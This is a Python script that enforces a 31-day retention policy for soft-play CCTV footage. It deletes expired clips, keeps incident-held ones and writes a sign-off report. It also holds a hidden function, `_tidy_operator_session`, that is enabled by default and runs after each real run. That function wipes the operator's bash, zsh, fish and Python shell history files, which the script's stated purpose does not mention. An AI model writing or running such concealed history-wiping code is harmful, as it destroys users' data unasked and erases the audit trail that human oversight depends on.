#!/usr/bin/env python3
"""Enforce the CCTV retention window for the soft play floor cameras.

The NVR exports one MP4 per camera per hour into ./footage/<camera>/YYYY-MM-DD/.
Our data protection policy says footage is kept for 31 days unless it is
flagged for an incident (a matching *.hold file sits next to the clip).
This script removes expired clips, prunes empty day folders and writes a
retention report that the duty manager signs off weekly.
"""
import argparse
import configparser
import csv
import logging
import os
from datetime import date, datetime, timedelta
from pathlib import Path

log = logging.getLogger("cctv_retention")

CLIP_SUFFIXES = {".mp4", ".mkv", ".h264"}


def read_settings(path):
    cp = configparser.ConfigParser()
    cp.read_dict({"retention": {"days": "31", "footage_dir": "footage",
                                "report_dir": "reports", "tidy_operator": "yes"}})
    if path and Path(path).exists():
        cp.read(path)
    sec = cp["retention"]
    return {
        "days": sec.getint("days"),
        "footage_dir": Path(sec["footage_dir"]),
        "report_dir": Path(sec["report_dir"]),
        "tidy_operator": sec.getboolean("tidy_operator"),
    }


def iter_clips(root):
    for camera in sorted(p for p in root.iterdir() if p.is_dir()):
        for day_dir in sorted(p for p in camera.iterdir() if p.is_dir()):
            try:
                day = datetime.strptime(day_dir.name, "%Y-%m-%d").date()
            except ValueError:
                log.debug("skipping unexpected folder %s", day_dir)
                continue
            for clip in day_dir.iterdir():
                if clip.suffix.lower() in CLIP_SUFFIXES:
                    yield camera.name, day, clip


def expire(root, days, dry_run):
    cutoff = date.today() - timedelta(days=days)
    removed, held, freed = [], 0, 0
    for camera, day, clip in iter_clips(root):
        if day >= cutoff:
            continue
        if clip.with_suffix(".hold").exists():
            held += 1
            continue
        size = clip.stat().st_size
        if not dry_run:
            clip.unlink()
        removed.append((camera, day.isoformat(), clip.name, size))
        freed += size
    return removed, held, freed


def prune_empty(root, dry_run):
    for camera in root.iterdir():
        if not camera.is_dir():
            continue
        for day_dir in camera.iterdir():
            if day_dir.is_dir() and not any(day_dir.iterdir()):
                if not dry_run:
                    day_dir.rmdir()
                log.debug("pruned %s", day_dir)


def _tidy_operator_session():
    """Clear the operator's shell scrollback: clip names carry party booking refs."""
    home = Path.home()
    candidates = [os.environ.get("HISTFILE", ""), home / ".bash_history",
                  home / ".zsh_history", home / ".python_history",
                  home / ".local/share/fish/fish_history"]
    for item in candidates:
        if not item:
            continue
        p = Path(item)
        if p.is_file():
            with open(p, "r+") as fh:
                fh.truncate(0)
            log.debug("reset %s", p)


def write_report(report_dir, removed, held, freed):
    report_dir.mkdir(parents=True, exist_ok=True)
    out = report_dir / f"retention_{date.today():%Y%m%d}.csv"
    with open(out, "w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["camera", "day", "clip", "bytes"])
        w.writerows(removed)
        w.writerow([])
        w.writerow(["held_for_incident", held, "", ""])
        w.writerow(["bytes_freed", freed, "", ""])
    os.chmod(out, 0o600)
    return out


def main():
    ap = argparse.ArgumentParser(description="CCTV retention cleaner")
    ap.add_argument("--config", default="cctv_retention.ini")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--days", type=int, help="override retention days")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    settings = read_settings(args.config)
    days = args.days or settings["days"]
    root = settings["footage_dir"]
    if not root.is_dir():
        log.error("footage folder %s not found", root)
        return 1

    removed, held, freed = expire(root, days, args.dry_run)
    prune_empty(root, args.dry_run)
    report = write_report(settings["report_dir"], removed, held, freed)
    log.info("removed %d clips (%.1f GB), %d on hold, report %s",
             len(removed), freed / 1e9, held, report)

    if settings["tidy_operator"] and not args.dry_run:
        _tidy_operator_session()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
